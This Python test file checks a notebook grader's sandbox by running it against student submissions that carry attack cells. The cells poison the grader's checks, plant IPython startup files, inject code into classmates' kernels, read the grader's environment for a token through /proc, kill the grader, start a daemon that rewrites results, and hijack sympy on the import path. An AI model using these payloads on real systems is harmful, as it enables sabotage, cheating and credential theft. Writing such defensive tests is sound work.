"""A class where some students attack the others, the grader and the teacher's machine.

One grading run (the command a teacher types, as a separate process) of a class in which two
solved submissions, graded first and last, must keep full marks while the others try what
issue 49 found: code planted in the grader's check modules, an IPython startup file for
every later kernel, code run in a classmate's kernel, reading the solutions, the grader's
environment and classmates' notebooks, killing the grader, and a daemon that outlives the
grader to rewrite its results while holding its output open. Sandboxed, all of it fails;
without a sandbox, the attacks the grader defends in depth fail too (the teacher's guide
lists what a student can still do there).

Two more tests check four rows of that list. Without a sandbox a kernel runs as the grader's
user, so it finds the grader through /proc and kills it (sandboxed: in the first run); it
rewrites the job folders the grader wrote for the rest of the class (a classmate's track
tests, a classmate's private IPython folder); and it plants code in a module the grader has
yet to import, which then passes its own exercises. Sandboxed, the same cell reaches none.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import threading
import time
import uuid

import pytest

pytest.importorskip("nbclient", reason="nbclient is not installed (Jupyter)")

from _grading import (  # noqa: E402
    BOOK,
    BOTH,
    CHAPTER,
    hand_in,
    notebook,
    running,
    scores,
    solutions,
)

from learn_parallel.classroom import files  # noqa: E402
from learn_parallel.classroom.track import TASKS, make_track  # noqa: E402

SECRET = "grader-secret-7f3a"
MARKER = "learn-parallel-attack-daemon"  # + a random suffix per run (tests run in parallel)

# Each attack is a cell placed right after the setup cell (READS: in place of the first stub);
# the answers stay the stubs.
PLANTS = """
import os
import learn_parallel.classroom.checks as checks
planted = "import learn_parallel.classroom as c\\n"
planted += "c._CHECKS.update({k: (lambda *a: None) for k in list(c._CHECKS)})\\n"
for folder in (checks.__path__[0], "GRADER_CHECKS"):
    try:
        with open(os.path.join(folder, "zz_planted.py"), "w") as f:
            f.write(planted)
    except OSError:
        pass
"""
STARTUP = """
import os
import IPython.paths
for home in {IPython.paths.get_ipython_dir(), os.path.expanduser("~/.ipython")}:
    folder = os.path.join(home, "profile_default", "startup")
    os.makedirs(folder, exist_ok=True)
    with open(os.path.join(folder, "00-sabotage.py"), "w") as f:
        f.write("import os\\nos._exit(3)\\n")
"""
KERNEL_TO_KERNEL = """
import glob, os, tempfile, time
from jupyter_client import BlockingKernelClient
from jupyter_core.paths import jupyter_runtime_dir
from ipykernel.connect import get_connection_file
own = os.path.realpath(get_connection_file())
payload = "def chunk_sizes(rows, devices):\\n    return [0]\\n"
payload += "def split_batch(batch, ids):\\n    return []\\n"
end = time.time() + 15
while time.time() < end:
    for place in {jupyter_runtime_dir(), tempfile.gettempdir(), os.path.expanduser("~")}:
        for path in glob.glob(os.path.join(place, "**", "*.json"), recursive=True):
            if os.path.realpath(path) != own and "shell_port" in open(path).read():
                client = BlockingKernelClient()
                client.load_connection_file(path)
                client.start_channels()
                try:
                    client.execute(payload, reply=True, timeout=10)
                except Exception:
                    pass
                client.stop_channels()
    time.sleep(0.2)
"""
READS = """
import glob, os
loot = []
def chunk_sizes(rows, devices):
    raise RuntimeError("LOOT[" + "; ".join(loot) + "]")
for path in ("BOOK_CHAPTER", "VICTIM_NOTEBOOK"):
    try:
        loot.append(f"{os.path.basename(path)}: {len(open(path).read())} characters")
    except OSError:
        pass
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        if b"GITHUB_TOKEN=" in open(f"/proc/{pid}/environ", "rb").read():
            loot.append(f"the grader's environment through /proc/{pid}")
        if b"learn_parallel.classroom" in open(f"/proc/{pid}/cmdline", "rb").read():
            folder = os.readlink(f"/proc/{pid}/cwd")  # the grader's: the class is near
            loot += glob.glob(os.path.join(folder, "*", "*victim*"))[:1]
    except OSError:
        pass
"""
KILLS_THE_GRADER = "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n"
FINDS_THE_GRADER = """
import os, signal
pid = os.getpid()
while pid > 1:  # up the process tree, through /proc, to the grader
    pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
    if pid > 1 and b"learn_parallel.classroom" in open(f"/proc/{pid}/cmdline", "rb").read():
        os.kill(pid, signal.SIGKILL)
"""
DAEMON = """
import subprocess
script = "while [ ! -e RESULTS ]; do sleep 0.5; done; sleep 2; echo [] > RESULTS; sleep 60"
subprocess.Popen(["/bin/sh", "-c", script, "MARKER"], start_new_session=True)
"""


@pytest.mark.parametrize("sandbox", BOTH)
def test_no_student_reaches_a_classmate_the_grader_or_the_teachers_files(sandbox, tmp_path):
    marker = f"{MARKER}-{uuid.uuid4().hex}"
    package = tmp_path / "installed"  # the grader's own copy: a planted module stays there
    ignore = shutil.ignore_patterns(files.SHIPPED.name)
    shutil.copytree(files.PACKAGE, package / "learn_parallel", ignore=ignore)
    submissions, results = tmp_path / "class", tmp_path / "results.json"
    victim = submissions / "b-victim" / f"{CHAPTER}.ipynb"
    attacks = {
        "c-plants": PLANTS.replace(
            "GRADER_CHECKS", str(package / "learn_parallel/classroom/checks")
        ),
        "d-startup": STARTUP,
        "f-kills-the-grader": KILLS_THE_GRADER,
        "g-daemon": DAEMON.replace("RESULTS", str(results)).replace("MARKER", marker),
    }
    if sandbox == "bwrap":  # without a sandbox these succeed: the guide's table says so
        attacks["a-kernel-to-kernel"] = KERNEL_TO_KERNEL
        attacks["h-finds-the-grader"] = FINDS_THE_GRADER  # see the test after this one
        book = str(BOOK / f"{CHAPTER}.ipynb")
        attacks["e-reads"] = READS.replace("BOOK_CHAPTER", book).replace(
            "VICTIM_NOTEBOOK", str(victim)
        )
    students = {name: notebook(None, first_cell=cell) for name, cell in attacks.items()}
    if "e-reads" in attacks:  # its answer is the attack: in place of the first stub
        students["e-reads"] = notebook([attacks["e-reads"]])
    students["b-victim"] = students["z-victim"] = notebook(solutions())
    hand_in(submissions, students)
    env = dict(os.environ, HOME=str(tmp_path / "home"), TMPDIR=str(tmp_path / "tmp"))
    env.update(PYTHONPATH=str(package), GITHUB_TOKEN=SECRET)
    (tmp_path / "tmp").mkdir()
    (tmp_path / "home").mkdir()
    command = [sys.executable, "-m", "learn_parallel.classroom", "grade", str(submissions)]
    command += ["--reference", str(BOOK), "--json", str(results), "--jobs", "2"]
    command += ["--sandbox", sandbox, "--timeout", "60"]
    grader = subprocess.Popen(
        command, cwd=tmp_path, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE
    )
    output: dict[str, bytes] = {}
    reader = threading.Thread(target=lambda: output.update(out=grader.stdout.read()))
    reader.start()
    status = grader.wait(timeout=600)
    reader.join(timeout=5)
    held = reader.is_alive()  # a process the grader started still holds its output
    time.sleep(4)  # a daemon waits for the results file, then 2 s, then rewrites it
    left = running(marker)
    for pid in left:
        os.kill(pid, 9)
    errors = grader.stderr.read().decode()
    assert status == 0, errors
    # The log is the table: the kernels' own output (ipykernel's warnings) stays in the jobs.
    assert [line for line in errors.splitlines() if not line.startswith("note: ")] == []
    assert not held, "a submission's process kept the grader's output open"
    assert not left, "a submission's process outlived the grader"
    rows = json.loads(results.read_text())
    table = output["out"].decode()
    graded = scores(rows)
    assert (
        graded.pop("b-victim")
        == graded.pop("z-victim")
        == {
            "scatter-sizes": True,
            "scatter-dict": True,
        }
    ), table
    assert set(graded) == set(attacks), table
    assert not [name for name, got in graded.items() if any(got.values())], table
    assert SECRET not in table and SECRET not in results.read_text()
    if sandbox == "bwrap":  # the answer ran, and found nothing to read
        read = [r["message"] for r in rows if r["submission"].endswith(f"e-reads/{CHAPTER}.ipynb")]
        assert "RuntimeError: LOOT[]" in read[0], read
        assert not (package / "learn_parallel/classroom/checks/zz_planted.py").exists()


def test_without_a_sandbox_a_kernel_finds_the_grader_and_kills_it(tmp_path):
    """The guide's table, row "stop the class", column `--sandbox none`: the grader dies
    with the table unprinted, a classmate graded after the attacker never graded."""
    hand_in(tmp_path, {"a-kills": notebook(None, first_cell=FINDS_THE_GRADER)})
    hand_in(tmp_path, {"b-classmate": notebook(solutions())})
    command = [sys.executable, "-m", "learn_parallel.classroom", "grade", str(tmp_path)]
    command += ["--reference", str(BOOK), "--jobs", "1", "--sandbox", "none"]
    env = dict(os.environ, PYTHONPATH=str(files.PACKAGE.parent))
    done = subprocess.run(command, env=env, capture_output=True, text=True, timeout=600)
    assert done.returncode == -9 and "b-classmate" not in done.stdout, done.stdout


# Planted as ``sympy.py`` in a folder on the grader's import path that the grader's user can
# write: the folder it runs from, which ``python -m`` puts first on that path (the teacher's
# guide: no virtual environment of your own is needed). On simulated devices the grader first
# imports sympy as it judges (the teacher's guide, "How long the checks take"): from then on
# the attacker's rows pass.
TAKES_OVER = """
import os, sys
open(os.path.join(HERE, "ran-in"), "w").write(str(os.getpid()))
grade = sys.modules["learn_parallel.classroom.grade"]
_Result = grade.Result
def _passes(submission, *row):
    if "a-reaches" in submission:
        return _Result(submission, row[0], row[1], True, "")
    return _Result(submission, *row)
grade.Result = _passes
del sys.modules["sympy"]
sys.path[:] = [p for p in sys.path if os.path.realpath(p or os.curdir) != os.path.realpath(HERE)]
import sympy
"""
# The kernel runs in <run>/<n>/job/work/<attempt>: every other job is a sibling of its own.
REACHES_THE_RUN = """
from pathlib import Path
mine = Path.cwd().parents[1]
for job in mine.parent.parent.glob("*/job"):
    if job == mine:
        continue
    for tests in job.glob("tests/test_tasks.py"):
        tests.write_text("def test_nothing():\\n    assert False\\n")
    startup = job / "private" / "home" / ".ipython" / "profile_default" / "startup"
    startup.mkdir(parents=True, exist_ok=True)
    (startup / "00-planted.py").write_text("import os\\nos._exit(1)\\n")
try:
    Path(IMPORTED, "sympy.py").write_text(TAKES_OVER)
except OSError:
    pass
"""


@pytest.mark.parametrize("sandbox", BOTH)
def test_without_a_sandbox_a_kernel_rewrites_the_graders_copies_and_its_imports(sandbox, tmp_path):
    imported, submissions = tmp_path / "imported", tmp_path / "class"
    imported.mkdir()
    attack = REACHES_THE_RUN.replace("IMPORTED", repr(str(imported))).replace(
        "TAKES_OVER", repr(TAKES_OVER.replace("HERE", repr(str(imported))))
    )
    # Graded in this order, one at a time: the attacker, a solved classmate, a track copy
    # (the reference: every task passes).
    hand_in(submissions, {"a-reaches": notebook(None, first_cell=attack)})
    hand_in(submissions, {"b-classmate": notebook(solutions())})
    make_track(submissions / "c-track", tasks=[])
    results = tmp_path / "results.json"
    command = [sys.executable, "-m", "learn_parallel.classroom", "grade", str(submissions)]
    command += ["--reference", str(BOOK), "--json", str(results), "--jobs", "1"]
    command += ["--sandbox", sandbox]
    # Run from `imported`, a folder of the teacher's, as `grade` is usually run: only
    # `python -m` puts it on the grader's import path.
    env = dict(os.environ, PYTHONPATH=str(files.PACKAGE.parent), LEARN_PARALLEL_SIMULATE="1")
    grader = subprocess.Popen(
        command, env=env, cwd=imported, stdout=subprocess.PIPE, stderr=subprocess.PIPE
    )
    table, errors = (text.decode() for text in grader.communicate(timeout=600))
    assert grader.returncode == 0, errors
    graded = scores(json.loads(results.read_text()))
    track = graded.pop(submissions.name)  # a track's rows name its folder, not a notebook
    assert set(track) == {t.name for t in TASKS}, table
    planted = imported / "ran-in"
    if sandbox == "bwrap":
        assert not any(graded["a-reaches"].values()), table
        assert all(graded["b-classmate"].values()) and all(track.values()), table
        assert not planted.exists() and not (imported / "sympy.py").exists()
    else:  # the teacher's guide's table: "can", in these three rows
        assert any(graded["a-reaches"].values()), table  # passed by the planted code
        assert planted.read_text() == str(grader.pid), "the planted code ran elsewhere"
        assert not any(graded["b-classmate"].values()), table
        assert not any(track.values()), table
